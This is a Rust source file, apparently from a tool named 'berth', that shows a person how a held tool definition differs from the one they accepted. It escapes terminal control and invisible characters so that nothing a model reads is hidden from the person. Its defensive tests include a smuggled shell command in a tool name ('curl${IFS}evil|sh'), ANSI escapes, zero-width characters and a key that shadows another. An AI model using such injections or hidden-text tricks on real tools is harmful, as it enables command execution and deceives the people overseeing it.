//! A tool that is described otherwise than a person has accepted: what is different, so that they can say yes or no.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;

use serde::Serialize;
use serde_json::Value;

use crate::catalogue::Held;
use crate::config::Server;
use crate::human::moves_text;
use crate::values::Definitions;
use crate::values::full_name::{full_name, room};

/// Such a tool.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct HeldTool {
    pub server: String,
    /// What `berth tools --accept` takes.
    pub accept: String,
    /// Its calls are refused.
    pub is_refused: bool,
    /// Its definition as it was accepted, as JSON; `None`: it is new, or was accepted by a former berth.
    pub accepted: Option<String>,
    /// And as it was told last.
    pub told: String,
}

impl HeldTool {
    pub(super) fn of(server: &Server, held: Held) -> Self {
        let Held { tool, accepted, told } = held;
        let is_refused = server.settings.definitions == Definitions::Hold;
        // It is to be pasted, so it has letters, digits, `_` and `-` alone.
        let accept = full_name(server.prefix(), &tool, room(None));
        Self { server: server.name.clone(), accept, is_refused, accepted, told }
    }

    /// For a person: each part that differs, as it was and as it is.
    pub(super) fn lines(&self) -> Vec<String> {
        let Self { accept, is_refused, .. } = self;
        let accept = shown(accept);
        let what = if self.accepted.is_some() {
            "is described otherwise than it was accepted"
        } else {
            "is not accepted"
        };
        let next = if *is_refused { "its calls are refused until" } else { "to accept it, type" };
        let mut lines = vec![format!("`{accept}` {what}; {next} `berth tools --accept {accept}`")];
        let (before, after) = (leaves(self.accepted.as_deref()), leaves(Some(&self.told)));
        let paths: BTreeSet<&Path> = before.keys().chain(after.keys()).collect();
        for path in paths {
            let (before, after) = (before.get(path), after.get(path));
            if before != after {
                lines.push(format!("  {}", shown(&joined(path))));
                lines.extend(before.map(|text| format!("    - {}", shown(text))));
                lines.extend(after.map(|text| format!("    + {}", shown(text))));
            }
        }
        if lines.len() == 1 {
            // They differ in what is said twice, or in nothing that has a name.
            lines.extend(self.accepted.as_deref().map(|text| format!("    - {}", shown(text))));
            lines.push(format!("    + {}", shown(&self.told)));
        }
        lines
    }
}

/// Where a part stands in a definition.
type Path = Vec<String>;

/// The parts of a definition, by where they stand in it.
fn leaves(definition: Option<&str>) -> BTreeMap<Path, String> {
    fn walk(value: &Value, path: &mut Path, leaves: &mut BTreeMap<Path, String>) {
        match value {
            Value::Object(members) if !members.is_empty() => {
                for (name, value) in members {
                    path.push(name.clone());
                    walk(value, path, leaves);
                    path.pop();
                }
            }
            value => drop(leaves.insert(path.clone(), value.to_string())),
        }
    }
    let mut leaves = BTreeMap::new();
    if let Some(text) = definition {
        match serde_json::from_str(text) {
            Ok(value) => walk(&value, &mut Path::new(), &mut leaves),
            Err(_) => drop(leaves.insert(Path::new(), text.to_owned())),
        }
    }
    leaves
}

/// A key that could be taken for several stands in quotes.
fn joined(path: &Path) -> String {
    let is_plain = |char: char| char.is_ascii_alphanumeric() || matches!(char, '_' | '-' | '$');
    let key = |key: &String| {
        if !key.is_empty() && key.chars().all(is_plain) {
            key.clone()
        } else {
            Value::from(key.as_str()).to_string()
        }
    };
    path.iter().map(key).collect::<Vec<_>>().join(".")
}

/// Safe for a terminal, and with nothing in it that a model reads and a person does not see.
fn shown(text: &str) -> String {
    text.chars().fold(String::with_capacity(text.len()), |mut shown, char| {
        if moves_text(char) || is_invisible(char) {
            // Writing to a string does not fail.
            _ = write!(shown, "{}", char.escape_unicode());
        } else {
            shown.push(char);
        }
        shown
    })
}

/// Characters without a width: joiners, fillers, tags, selectors of variants.
fn is_invisible(char: char) -> bool {
    matches!(
        char,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
            | '\u{200b}'..='\u{200f}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
            | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn held(accepted: Option<&str>, told: &str, is_refused: bool) -> Vec<String> {
        let accepted = accepted.map(str::to_owned);
        let (server, accept) = ("git".to_owned(), "git__log".to_owned());
        HeldTool { server, accept, is_refused, accepted, told: told.to_owned() }.lines()
    }

    #[test]
    fn what_differs_stands_there_as_it_was_and_as_it_is() {
        let before = r#"{"name":"log","description":"shows","inputSchema":{"type":"object","properties":{"n":{"type":"integer"}}}}"#;
        let after = r#"{"inputSchema":{"properties":{"n":{"type":"integer"},"all":{"type":"boolean"}},"type":"object"},"name":"log","description":"shows all"}"#;
        assert_eq!(
            held(Some(before), after, true),
            [
                "`git__log` is described otherwise than it was accepted; its calls are refused until `berth tools --accept git__log`",
                "  description",
                "    - \"shows\"",
                "    + \"shows all\"",
                "  inputSchema.properties.all.type",
                "    + \"boolean\"",
            ]
        );
        let new = held(None, r#"{"name":"log"}"#, false);
        assert_eq!(
            new,
            [
                "`git__log` is not accepted; to accept it, type `berth tools --accept git__log`",
                "  name",
                "    + \"log\"",
            ]
        );
    }

    #[test]
    fn nothing_in_it_reaches_a_terminal_or_is_hidden_from_a_person() {
        let told = "{\"name\":\"log\",\"description\":\"a\\u001b[2J\\nb\u{200b}c\u{e0041}\u{202e}d\"}";
        let lines = held(Some(r#"{"name":"log"}"#), told, true);
        assert_eq!(lines[2], r#"    + "a\u001b[2J\nb\u{200b}c\u{e0041}\u{202e}d""#);
        let broken = held(None, "{\u{1b}[2J", true);
        assert_eq!(broken[2], r"    + {\u{1b}[2J");
    }

    #[test]
    fn no_name_of_a_key_hides_another_part() {
        let before = r#"{"inputSchema":{"x":{"description":"ok"}}}"#;
        let after = r#"{"inputSchema":{"x":{"description":"EVIL"},"x.description":"ok"},"":1}"#;
        let lines = held(Some(before), after, true).join("\n");
        assert!(lines.contains("+ \"EVIL\"") && lines.contains(r#"inputSchema."x.description""#), "{lines}");
        let twice = held(Some(r#"{"a":1}"#), r#"{"a":2,"a":1}"#, true);
        assert!(twice[2].contains(r#"{"a":2,"a":1}"#), "{twice:?}");
    }

    #[test]
    fn the_command_that_is_to_be_pasted_has_nothing_for_a_shell() {
        let home =
            crate::config::Home::from_env(&|name| (name == "BERTH_HOME").then(|| "/b".to_owned())).unwrap();
        let config = crate::config::Config::parse(
            "[servers.git]\nimage = \"i\"",
            std::path::Path::new("b.toml"),
            &home,
        );
        let tool = "log;curl${IFS}evil|sh".to_owned();
        let held = Held { tool, accepted: None, told: "{}".to_owned() };
        let accept = HeldTool::of(config.unwrap().server("git").unwrap(), held).accept;
        assert!(
            accept.chars().all(|char| char.is_ascii_alphanumeric() || matches!(char, '_' | '-')),
            "{accept}"
        );
    }
}
